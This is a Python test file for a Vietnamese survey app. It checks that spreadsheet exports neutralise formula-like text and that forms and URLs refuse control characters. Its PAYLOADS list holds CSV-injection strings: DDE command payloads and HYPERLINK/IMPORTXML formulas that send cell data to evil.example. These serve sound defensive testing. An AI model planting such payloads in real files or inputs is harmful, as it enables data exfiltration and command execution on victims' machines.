"""Hostile text, on SQLite and PostgreSQL: what may enter, and every export reading it back.

- Exports: texts that begin like a formula (``=``, ``+``, ``-``, ``@``, after leading white
  space too) in a citizen's comment, a paper form's cell, a questionnaire label, agency,
  desk and campaign names go through every CSV and XLSX the app and ``python -m scoring``
  write, and read back (csv module, openpyxl) as inert text equal to the stored text once
  the apostrophe that neutralises it is removed; numbers stay numbers.
- Entry: arbitrary Unicode in the citizen form's text items, the login form and the staff
  forms never gives a 500: it is stored clean or refused with a message naming the
  character; NUL and other refused characters in URLs and unchecked fields give a
  Vietnamese 400 page (JSON under /api/).
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import hmac
import io
import itertools
import json
import re
import time
import uuid
from collections.abc import Callable
from urllib.parse import quote

import pytest
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from werkzeug.test import TestResponse

from scoring.cli import main as scoring_main
from scoring.spreadsheet import FORMULA_PREFIX, append_row, csv_row, formula_like
from scoring.text import clean_text, find_refused, printable
from survey_app.extensions import db
from survey_app.models import Agency, Campaign, Desk, StaffUser, Submission
from survey_app.services import (
    accounts,
    analysis,
    index_export,
    organisation,
    paper_import,
    questionnaires,
    raw_export,
)
from survey_app.services.questionnaires import definition
from survey_app.services.submissions import Answers, record_submission, validate_answers
from tests.citizen_support import (
    SIPAS_2023,
    FormPage,
    full_answers,
    read_form,
    running_survey,
    walk,
)
from tests.staff_support import csrf_token, login

PASSWORD = "mat-khau-rat-dai-2026"
EXAMPLES = settings(
    max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)

# Known payloads (OWASP, and what the trial used), then generated ones.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?", B2), "//a")',
    "=1+1",
    "＝1+1",
    "-3.5",
    "+84 912 345 678",
    "- Thủ tục nhanh\n- Cán bộ nhiệt tình",
)
# What text may hold once stored (scoring.text), single-line: no controls, no line breaks.
PRINTABLE = st.characters(
    codec="utf-8", exclude_categories=("Cc", "Cs", "Cn", "Co", "Cf", "Zl", "Zp")
)
STARTS = st.sampled_from(["=", "+", "-", "@", "＝", "＋"])


def hostile_line(max_size: int = 30) -> st.SearchStrategy[str]:
    """Single-line text beginning like a formula, with no character the rules refuse."""
    generated = st.builds(
        lambda start, rest: (start + rest).strip(), STARTS, st.text(PRINTABLE, max_size=max_size)
    )
    lines = st.one_of(st.sampled_from([p for p in PAYLOADS if "\n" not in p]), generated)
    return lines.filter(lambda t: len(t) > 0 and "  " not in t and t[0] in "=+-@＝＋")


HOSTILE_TEXT = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(
        lambda lead, line: lead + line, st.sampled_from(["", "\t", "\n", "\r\n"]), hostile_line()
    ),
)


# ------------------------------------------------------------------ reading exports back


def csv_cells(data: bytes) -> list[str]:
    """Every cell of a CSV export; the '#' comment lines at its top are not cells."""
    text = data.decode("utf-8-sig")
    while text.startswith("#"):
        text = text.split("\r\n", 1)[1]
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_csv_inert(data: bytes, stored: list[str]) -> None:
    cells = csv_cells(data)
    risky = [c for c in cells if formula_like(c)]
    assert risky == [], risky
    texts = {c[len(FORMULA_PREFIX) :] if c.startswith(FORMULA_PREFIX) else c for c in cells}
    for text in stored:
        assert printable(text) in texts, text


def xlsx_cells(data: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert formulas == [], formulas
    unprefixed = [c.value for c in cells if isinstance(c.value, str) and formula_like(c.value)]
    assert all(c.quotePrefix for c in cells if c.value in unprefixed)
    return [c.value for c in cells]


def assert_xlsx_inert(data: bytes, stored: list[str]) -> None:
    values = xlsx_cells(data)
    for text in stored:
        assert printable(text) in values, text


# ------------------------------------------------------------------ the helper itself


@settings(deadline=None)
@given(st.text(st.characters(codec=None, exclude_categories=()), max_size=40))
@example("'")
@example("'=1+1")
def test_any_text_is_written_inert_and_printable_and_reads_back(text: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow(csv_row([text, -3.5, 7]))
    cell, number, whole = next(csv.reader(io.StringIO(out.getvalue())))
    assert not formula_like(cell)
    # The reader's one rule: a leading apostrophe is the prefix, never the text's.
    assert (cell[1:] if cell.startswith(FORMULA_PREFIX) else cell) == printable(text)
    assert (number, whole) == ("-3.5", "7")

    book = Workbook()
    append_row(book.active, [text, -3.5, 7])
    saved = io.BytesIO()
    book.save(saved)
    row = next(load_workbook(saved).active.iter_rows())
    assert row[0].value == (printable(text) or None)  # empty text: an empty cell
    assert row[0].data_type == "s" or row[0].value is None
    assert (row[1].value, row[1].data_type, row[2].value) == (-3.5, "n", 7)


@pytest.mark.parametrize("lead", ["", "\t", "\r", "\n", " ", "\t\r\n"])
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_formula_after_leading_white_space_is_neutralised(lead: str, start: str) -> None:
    text = f'{lead}{start}HYPERLINK("http://x")'
    assert csv_row([text])[0] == FORMULA_PREFIX + printable(text)


# ------------------------------------------------------------------ every export of the app


def _hostile_questionnaire(label: str, item_text: str, version: str) -> str:
    """sipas-2023 with a hostile index label and comment wording, and a number item that
    takes negative numbers."""
    text = SIPAS_2023.read_text(encoding="utf-8")
    text = text.replace('version: "2023.1"', f'version: "{version}"', 1)
    root = (
        "label: {vi: Chỉ số hài lòng về sự phục vụ hành chính (SIPAS), en: SIPAS satisfaction "
        "index}"
    )
    assert root in text
    text = text.replace(root, f"label: {{vi: {json.dumps(label, ensure_ascii=False)}, en: SIPAS}}")
    comment = (
        "          vi: Ông/Bà có góp ý gì thêm để cơ quan hành chính nhà nước phục vụ tốt hơn?\n"
    )
    assert comment in text
    text = text.replace(comment, f"          vi: {json.dumps(item_text, ensure_ascii=False)}\n")
    number = (
        "        max_length: 1000\n"
        "      - code: balance\n"
        "        text: {vi: Số tiền chênh lệch, en: Difference}\n"
        "        type: number\n"
        "        min: -1000\n"
        "        max: 1000\n"
    )
    return text.replace("        max_length: 1000\n", number, 1)


_examples = itertools.count()


def _store(campaign: Campaign, answers: Answers, at: dt.datetime) -> None:
    """One online submission of these answers, stored as the citizen form stores them."""
    record_submission(
        db.session.connection(),
        uid=str(uuid.uuid4()),
        campaign=campaign,
        desk=campaign.desks[0],
        route="desk_qr",
        answers=answers,
        language="vi",
        submitted_at=at,
    )


@EXAMPLES
@given(
    comment=HOSTILE_TEXT,
    paper=HOSTILE_TEXT,
    label=hostile_line(),
    item_text=hostile_line(),
    agency=hostile_line(),
    desk=hostile_line(),
    name=hostile_line(),
    balance=st.sampled_from(["-3.5", "-1000", "0", "2.25"]),
)
def test_hostile_texts_go_through_every_export_as_inert_text(
    app: Flask,
    tmp_path_factory: pytest.TempPathFactory,
    comment: str,
    paper: str,
    label: str,
    item_text: str,
    agency: str,
    desk: str,
    name: str,
    balance: str,
) -> None:
    n = next(_examples)
    with app.app_context():
        analysis.clear_caches()
        if db.session.scalar(sa.select(Agency.id).filter_by(code="HT")) is None:
            organisation.add_agency("HT", "Tỉnh Hà Tĩnh", "province")
        version, _ = questionnaires.load_text(
            _hostile_questionnaire(label, item_text, f"h{n}"), f"h{n}.yaml"
        )
        organisation.add_agency(f"A{n}", agency, "department", "HT")
        organisation.add_desk(f"D{n}", desk, f"A{n}")
        campaign = organisation.add_campaign(
            f"C{n}",
            name,
            f"A{n}",
            "sipas-2023",
            f"h{n}",
            dt.date(2026, 1, 1),
            dt.date(2026, 12, 31),
            [f"D{n}"],
        )
        db.session.commit()
        questionnaire = definition(version)
        stored_names = [db.session.scalar(sa.select(Agency.name).filter_by(code=f"A{n}"))]
        desk_name = db.session.scalar(sa.select(Desk.name).filter_by(code=f"D{n}"))
        # A citizen's comment, stored as the citizen form stores it (twice: the indices
        # need two answers), and a paper form's cell through the paper import.
        raw = {k: v for k, v in full_answers(comment=comment).items()}
        raw["balance"] = balance
        answers = validate_answers(questionnaire, raw)
        for day in (3, 4):
            _store(campaign, answers, dt.datetime(2026, 3, day, 2, 0, 0, 123456))
        columns = paper_import.template_columns(questionnaire)
        row = {c: raw.get(c, "") for c in columns if not isinstance(raw.get(c), list)}
        row.update(form_id="1", desk=f"D{n}", submitted_on="2026-03-05", comment=paper)
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=columns)
        writer.writeheader()
        writer.writerow(row)
        paper_import.import_file(campaign, "phieu.csv", out.getvalue().encode("utf-8"))
        db.session.commit()
        comments = [
            document["comment"]
            for document in db.session.scalars(
                sa.select(Submission.answers).filter_by(campaign_id=campaign.id)
            )
        ]
        assert set(comments) == {answers["comment"], clean_text(paper).strip()}
        wording = questionnaire.item("comment").text["vi"]  # as stored: NFC

        # Raw responses and codebook; the number item keeps real (negative) numbers.
        responses = raw_export.responses_csv(campaign)
        assert_csv_inert(responses, comments)
        assert_csv_inert(raw_export.codebook_csv(campaign), [wording])
        rows = list(csv.DictReader(io.StringIO(responses.decode("utf-8-sig"))))
        assert [float(r["balance"]) for r in rows] == [float(balance)] * 3
        exported = raw_export.responses_xlsx(campaign)
        assert_xlsx_inert(exported, [*comments, wording])
        data = load_workbook(io.BytesIO(exported))[raw_export.DATA_SHEET]
        header = [c.value for c in data[1]]
        cells = [r[header.index("balance")] for r in data.iter_rows(min_row=2)]
        assert [(c.value, c.data_type) for c in cells] == [(float(balance), "n")] * 3

        # Index and PAR exports: the index label, the campaign's and the agency's names.
        admin = db.session.scalars(sa.select(StaffUser).filter_by(role="admin")).first()
        if admin is None:
            admin = accounts.create_user("quantri", PASSWORD, "admin")
        view = analysis.make_view(campaign, admin, analysis.campaign_periods(campaign)[0])
        tree = analysis.view_tree(view)
        assert_csv_inert(index_export.indices_csv(view, tree), [tree.label])
        assert_xlsx_inert(
            index_export.indices_xlsx(view, tree), [tree.label, f"{campaign.name} (C{n})"]
        )
        table = index_export.par_table(view, analysis.names(Agency, [f"A{n}"]))
        assert len(table) == 1
        assert_csv_inert(index_export.par_csv(view, table), stored_names[:1])
        assert_xlsx_inert(index_export.par_xlsx(view, table), stored_names[:1])

        # Paper template: its guide (wordings) and its desk sheet (names).
        desks = paper_import.campaign_desks(campaign)
        assert_xlsx_inert(paper_import.template_xlsx(questionnaire, desks), [wording, desk_name])
        assert_csv_inert(paper_import.guide_csv(questionnaire), [wording])
        db.session.commit()  # the audit events of the exports

        # python -m scoring on the raw export: its outputs carry the questionnaire's labels.
        folder = tmp_path_factory.mktemp("cli")
        (folder / "q.yaml").write_text(
            _hostile_questionnaire(label, item_text, f"h{n}"), encoding="utf-8"
        )
        (folder / "responses.csv").write_bytes(raw_export.responses_csv(campaign))
        root = tree.label
    for suffix in ("csv", "xlsx"):
        output = folder / f"index.{suffix}"
        arguments = ["index", str(folder / "q.yaml"), str(folder / "responses.csv"), "-o"]
        assert scoring_main([*arguments, str(output)]) == 0
        if suffix == "csv":
            assert_csv_inert(output.read_bytes(), [root])
        else:
            assert_xlsx_inert(output.read_bytes(), [root])


# ------------------------------------------------------------------ text stored before the rules


def test_a_vertical_tab_or_esc_stored_before_the_rules_exports(
    app: Flask, client: FlaskClient
) -> None:
    """Word's line break (U+000B) and an ESC stored in a comment made responses.xlsx 500."""
    survey = running_survey(app)
    with app.app_context():
        campaign = organisation.campaign_by_code("C")
        answers = validate_answers(definition(campaign.questionnaire_version), full_answers())
        answers["comment"] = "Dòng 1\x0bDòng 2 \x1b[31m=1+1"
        _store(campaign, answers, dt.datetime(2026, 3, 1, 2))
        accounts.create_user("quantri", PASSWORD, "admin")
        db.session.commit()
    assert survey.desk_code == "D1"
    login(client, "quantri", PASSWORD)
    shown = "Dòng 1\nDòng 2 \ufffd[31m=1+1"
    xlsx = client.get("/staff/campaigns/C/responses.xlsx")
    assert xlsx.status_code == 200
    assert shown in xlsx_cells(xlsx.data)
    responses = client.get("/staff/campaigns/C/responses.csv")
    assert responses.status_code == 200 and shown in csv_cells(responses.data)


# ------------------------------------------------------------------ the citizen form

ANY_TEXT = st.text(st.characters(codec="utf-8", exclude_categories=()), max_size=60)


@pytest.fixture
def last_step(app: Flask, client: FlaskClient) -> FormPage:
    """The citizen form's last step, every earlier answer carried in its hidden fields."""
    survey = running_survey(app)
    _response, page = walk(client, f"/s/{survey.public_id}", full_answers(), submit=False)
    return page


def _final_post(client: FlaskClient, page: FormPage, **fields: str) -> TestResponse:
    data = page.data(full_answers())
    data.setlist("uid", [str(uuid.uuid4())])  # a new form each time
    for name, value in fields.items():
        data.setlist(name, [value])
    return client.post(page.action, data=data)


@EXAMPLES
@given(text=ANY_TEXT)
@example(text="\x1f")  # blank to str.strip(): no answer
@example(text="Cán bộ\x00 tận tình")
@example(text="Dòng 1\x0bDòng 2\r\nDòng 3\u2028=1+1")
@example(text='=HYPERLINK("http://evil.example")\x1b[31m')
@example(text="'")  # the prefix itself: prefixed too, so removing one gives it back
def test_any_comment_is_stored_clean_or_refused_with_the_character_named(
    app: Flask, client: FlaskClient, last_step: FormPage, text: str
) -> None:
    response = _final_post(client, last_step, a_comment=text)
    assert response.status_code in (303, 422), response.status_code
    given_text = text.replace("\r\n", "\n")
    # Blank by str.strip() (which counts U+001C-U+001F as white space) is no answer at all.
    refused = find_refused(given_text) if given_text.strip() else None
    page = response.get_data(as_text=True)
    if refused is not None:
        assert response.status_code == 422
        assert (
            f"Câu trả lời có ký tự không được phép ({refused.character}) ở vị trí "
            f"{refused.position}; vui lòng xóa ký tự này." in page
        )
        return
    cleaned = clean_text(given_text).strip() if given_text.strip() else ""
    if len(cleaned) > 1000:
        assert response.status_code == 422 and "dài quá 1000 ký tự" in page
        return
    assert response.status_code == 303
    receipt = response.headers["Location"].rsplit("/", 1)[1]
    with app.app_context():
        stored = db.session.scalar(sa.select(Submission).filter_by(receipt=receipt))
        assert stored is not None
        assert stored.answers.get("comment") == (cleaned or None)
        campaign = organisation.campaign_by_code("C")
        if cleaned:  # whatever is stored exports, and reads back as stored
            assert_xlsx_inert(raw_export.responses_xlsx(campaign), [cleaned])
            assert_csv_inert(raw_export.responses_csv(campaign), [cleaned])


@pytest.mark.parametrize(
    ("lang", "message"),
    [
        (
            "vi",
            "Câu trả lời có ký tự không được phép (U+001B) ở vị trí 12; vui lòng xóa ký tự này.",
        ),
        (
            "en",
            "The answer contains a character that is not allowed (U+001B) at position 12; "
            "please delete it.",
        ),
    ],
)
def test_the_refused_character_message_in_each_language(
    app: Flask, client: FlaskClient, last_step: FormPage, lang: str, message: str
) -> None:
    response = _final_post(client, last_step, a_comment="Góp ý chung\x1b[31m", lang=lang)
    assert response.status_code == 422
    assert message in response.get_data(as_text=True)
    assert read_form(response).field("step") == "9"  # the comment's page, answers kept
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count(Submission.id))) == 0


@EXAMPLES
@given(name=ANY_TEXT.filter(bool), value=ANY_TEXT)
def test_any_field_of_the_citizen_form_never_gives_a_500(
    client: FlaskClient, last_step: FormPage, name: str, value: str
) -> None:
    for field in (f"a_{name}", name, "a_gender", "step", "lang", "uid"):
        response = _final_post(client, last_step, **{field: value})
        assert response.status_code in (303, 400, 409, 422), (field, response.status_code)


# ------------------------------------------------------------------ staff forms


@pytest.fixture
def admin(app: Flask, client: FlaskClient) -> FlaskClient:
    with app.app_context():
        organisation.add_agency("HT", "Tỉnh Hà Tĩnh", "province")
        accounts.create_user("quantri", PASSWORD, "admin")
        db.session.commit()
    login(client, "quantri", PASSWORD)
    return client


def _refusal_shown(page: str, text: str, what: str) -> bool:
    refused = find_refused(text.strip(), multiline=False)
    assert refused is not None
    return f"({refused.character}) ở vị trí {refused.position}" in page and what in page


@EXAMPLES
@given(username=ANY_TEXT, password=ANY_TEXT)
def test_any_login_is_refused_or_checked_never_a_500(
    client: FlaskClient, admin: FlaskClient, username: str, password: str
) -> None:
    client.post("/staff/logout", data={"csrf_token": csrf_token(client, "/staff/")})
    token = csrf_token(client)
    response = client.post(
        "/staff/login", data={"username": username, "password": password, "csrf_token": token}
    )
    page = response.get_data(as_text=True)
    if find_refused(password) is not None:  # a field no form checks: the guard's 400
        assert response.status_code == 400 and "ký tự không được phép" in page
    elif username.strip() and find_refused(username.strip(), multiline=False) is not None:
        assert response.status_code == 200 and _refusal_shown(page, username, "Tên đăng nhập")
    else:
        assert response.status_code in (200, 302)
    login(client, "quantri", PASSWORD)


def _post_agency(admin: FlaskClient, code: str, name: str) -> TestResponse:
    token = csrf_token(admin, "/staff/agencies")
    fields = {"code": code, "name": name, "kind": "department", "parent": "HT"}
    return admin.post("/staff/agencies", data={**fields, "csrf_token": token})


@EXAMPLES
@given(code=ANY_TEXT, name=ANY_TEXT)
def test_any_agency_code_and_name_are_stored_clean_or_refused(
    app: Flask, admin: FlaskClient, code: str, name: str
) -> None:
    for code_given, name_given in ((code, "Sở Thử"), (f"S-{uuid.uuid4().hex[:8]}", name)):
        response = _post_agency(admin, code_given, name_given)
        assert response.status_code in (302, 422), response.status_code
        page = response.get_data(as_text=True)
        for text, what in ((code_given, "Mã cơ quan"), (name_given, "Tên cơ quan")):
            if text.strip() and find_refused(text.strip(), multiline=False) is not None:
                assert response.status_code == 422 and _refusal_shown(page, text, what)
        if response.status_code == 302:
            with app.app_context():
                stored = db.session.scalar(sa.select(Agency).filter_by(code=code_given.strip()))
                assert stored is not None
                wanted = " ".join(clean_text(name_given.strip(), multiline=False).split())
                assert stored.name == wanted


@EXAMPLES
@given(name=ANY_TEXT)
def test_any_desk_name_is_stored_clean_or_refused_and_exports(
    app: Flask, admin: FlaskClient, name: str
) -> None:
    code = f"D-{uuid.uuid4().hex[:8]}"
    token = csrf_token(admin, "/staff/desks/new")
    response = admin.post(
        "/staff/desks/new",
        data={"code": code, "name": name, "agency": "HT", "csrf_token": token},
    )
    assert response.status_code in (302, 422), response.status_code
    if find_refused(name.strip(), multiline=False) is not None:
        assert _refusal_shown(response.get_data(as_text=True), name, "Tên bộ phận một cửa")
    if response.status_code != 302:
        return
    with app.app_context():
        desk = db.session.scalar(sa.select(Desk).filter_by(code=code))
        assert desk is not None
        questionnaire = definition(questionnaires.load_file(SIPAS_2023)[0])
        db.session.commit()
        assert_xlsx_inert(
            paper_import.template_xlsx(questionnaire, [(code, desk.name)]), [desk.name]
        )


@EXAMPLES
@given(username=ANY_TEXT)
def test_any_new_username_is_created_clean_or_refused(
    app: Flask, admin: FlaskClient, username: str
) -> None:
    token = csrf_token(admin, "/staff/users")
    response = admin.post(
        "/staff/users",
        data={
            "username": username,
            "password": "mot-mat-khau-dai-2026",
            "role": "analyst",
            "agency": "",
            "csrf_token": token,
        },
    )
    assert response.status_code in (200, 302), response.status_code
    if username.strip() and find_refused(username.strip(), multiline=False) is not None:
        assert response.status_code == 200
        assert _refusal_shown(response.get_data(as_text=True), username, "Tên đăng nhập")


# ------------------------------------------------------------------ the guard of URLs and fields

NUL_REQUESTS = [
    ("GET", "/s/abc%00def", None),
    ("GET", "/c/%00token", None),
    ("GET", "/r/ABCD%00EFG", None),
    ("GET", "/%1b[31m", None),
    ("GET", "/staff/desks/D1%00", None),
    ("GET", "/staff/campaigns/C%00/dashboard", None),
    ("GET", "/staff/campaigns/C/dashboard?period=2026%00", None),
    ("GET", "/staff/campaigns/C/dashboard?per%00iod=2026", None),
    ("GET", "/staff/campaigns/new?agency=P%00", None),
    ("GET", "/staff/campaigns/C/responses.xlsx%00", None),
    ("POST", "/staff/users/ab%00/disable", {}),
    ("POST", "/staff/campaigns/C/weighting", {"strata": "agency\x00", "calibration": "none"}),
    ("POST", "/staff/desks/new", {"code": "D9", "name": "Quầy", "agency": "P\x00"}),
    ("POST", "/staff/login", {"username": "quantri", "pass\x00word": "x"}),
]


@pytest.mark.parametrize(("method", "path", "form"), NUL_REQUESTS)
def test_a_refused_character_in_a_url_or_an_unchecked_field_is_a_vietnamese_400(
    app: Flask, client: FlaskClient, method: str, path: str, form: dict[str, str] | None
) -> None:
    running_survey(app)
    with app.app_context():
        accounts.create_user("quantri", PASSWORD, "admin")
        db.session.commit()
    login(client, "quantri", PASSWORD)
    data = None
    if form is not None:
        data = {**form, "csrf_token": csrf_token(client, "/staff/")}
    response = client.open(path, method=method, data=data)
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert re.search(r"có ký tự không được phép \(U\+00(00|1B)\) ở vị trí \d+", page), page


@pytest.mark.parametrize(
    "path", ["/api/v1/campaigns/C%00/indices", "/api/v1/campaigns/C/indices?period=%00"]
)
def test_the_api_answers_a_refused_character_with_json(
    app: Flask, client: FlaskClient, path: str
) -> None:
    running_survey(app)
    response = client.get(path)
    assert response.status_code == 400
    assert "U+0000" in response.get_json()["error"]


@EXAMPLES
@given(
    char=st.one_of(
        st.characters(max_codepoint=0x1F),
        st.characters(min_codepoint=0x7F, max_codepoint=0x9F),
        st.sampled_from("\u2028\u2029\u202a\u202e\u2066\u2069\ufdd0\ufffe\uffff\U0010ffff"),
    ),
    path=st.sampled_from(
        ["/s/{}", "/staff/desks/{}", "/staff/campaigns/{}/dashboard", "/staff/agencies?parent={}"]
    ),
)
def test_any_refused_character_in_a_url_is_a_400_never_a_500(
    app: Flask, client: FlaskClient, char: str, path: str
) -> None:
    response = client.get(path.format(quote(f"D1{char}", safe="")))
    assert response.status_code == 400
    assert f"U+{ord(char):04X}" in response.get_data(as_text=True)


def test_the_one_stop_api_refuses_a_refused_character_in_its_json_strings(
    make_app: Callable[..., Flask],
) -> None:
    app = make_app(ONESTOP_API_SECRET="bi-mat-chung")
    with app.app_context():
        db.create_all()
    running_survey(app)
    client = app.test_client()
    for desk, dossier in (("D1\x00", "HS-1"), ("D1", "HS\x00-1"), ("D1", "HS\u202e-1")):
        body = json.dumps({"desk": desk, "dossier": dossier}).encode()
        stamp = str(int(time.time()))
        signature = hmac.new(b"bi-mat-chung", f"{stamp}\n".encode() + body, hashlib.sha256)
        response = client.post(
            "/api/v1/dossier-codes",
            data=body,
            headers={
                "X-Timestamp": stamp,
                "X-Signature": signature.hexdigest(),
                "Content-Type": "application/json",
            },
        )
        assert response.status_code == 400
        assert "not allowed (U+" in response.get_json()["error"]
